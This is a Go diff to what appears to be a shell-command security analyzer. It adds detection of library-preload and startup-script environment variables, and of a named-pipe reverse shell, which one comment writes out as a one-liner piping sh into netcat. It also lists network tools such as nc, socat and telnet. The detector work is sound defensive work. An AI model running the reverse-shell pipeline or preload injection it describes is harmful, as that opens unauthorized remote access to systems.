@@ -131,7 +131,13 @@ func (c *call) runsFetchedFile() bool {
 		return false
 	}
 	var file shell.Word
+	for i := range c.command.Assigns {
+		if a := &c.command.Assigns[i]; loadsCode(a.Name) {
+			file = a.Value
+		}
+	}
 	switch s := c.command.Script; {
+	case file.Value != "":
 	case s != nil && s.Kind == shell.ScriptFile:
 		file = s.Text
 	case s == nil && strings.Contains(c.argv[0].Value, "/"):
@@ -148,6 +154,16 @@ func (c *call) runsFetchedFile() bool {
 		}) {
 			return true
 		}
+	}
+	return false
+}
+
+// loadsCode: variables that name a library or a script which a program loads
+// before its own work.
+func loadsCode(name string) bool {
+	switch name {
+	case "LD_PRELOAD", "LD_AUDIT", "DYLD_INSERT_LIBRARIES", "PYTHONSTARTUP", "PERL5DB":
+		return true
 	}
 	return false
 }
@@ -270,10 +286,65 @@ func shellOnSocket(c *call) (string, bool) {
 	if !shell.IsShell(c.name) && c.name != "exec" {
 		return "", false
 	}
+	if c.overPipe() {
+		return "", true
+	}
 	for i := range c.command.Redirs {
 		if word := &c.command.Redirs[i].Word; strings.HasPrefix(word.Value, "/dev/tcp/") || strings.HasPrefix(word.Value, "/dev/udp/") {
 			return "", true
 		}
 	}
 	return "", false
+}
+
+// overPipe: a shell reads its commands from a file into which a network client
+// after it in the same pipeline writes what it is sent:
+// `cat p | sh | nc HOST PORT > p`.
+func (c *call) overPipe() bool {
+	pipes := c.command.Pipes
+	if c.wrapper || c.line == nil || len(pipes) == 0 {
+		return false
+	}
+	mine := pipes[len(pipes)-1]
+	for i := range c.line.Commands {
+		other := &c.line.Commands[i]
+		if len(other.Pipes) != len(pipes) || other.Pipes[len(pipes)-1].ID != mine.ID || other.Pipes[len(pipes)-1].Stage <= mine.Stage {
+			continue
+		}
+		switch other.Name() {
+		case "nc", "ncat", "netcat", "telnet", "socat", "openssl", "nc.traditional", "nc.openbsd":
+			if c.fedFrom(other.Redirs, mine.ID) {
+				return true
+			}
+		}
+	}
+	return false
+}
+
+// fedFrom: a command before this one in the pipeline, or this one itself, reads
+// a file that one of the redirections writes.
+func (c *call) fedFrom(redirs []shell.Redirect, pipe int) bool {
+	for i := range redirs {
+		if writes, _ := redirs[i].Writes(); !writes || redirs[i].Word.Value == "" {
+			continue
+		}
+		file := redirs[i].Word.Value
+		for k := range c.line.Commands {
+			one := &c.line.Commands[k]
+			if n := len(one.Pipes); n == 0 || one.Pipes[n-1].ID != pipe || one.Pipes[n-1].Stage > c.command.Pipes[len(c.command.Pipes)-1].Stage {
+				continue
+			}
+			for a := range one.Argv {
+				if one.Argv[a].Is(file) {
+					return true
+				}
+			}
+			for r := range one.Redirs {
+				if writes, _ := one.Redirs[r].Writes(); !writes && one.Redirs[r].Word.Is(file) {
+					return true
+				}
+			}
+		}
+	}
+	return false
 }
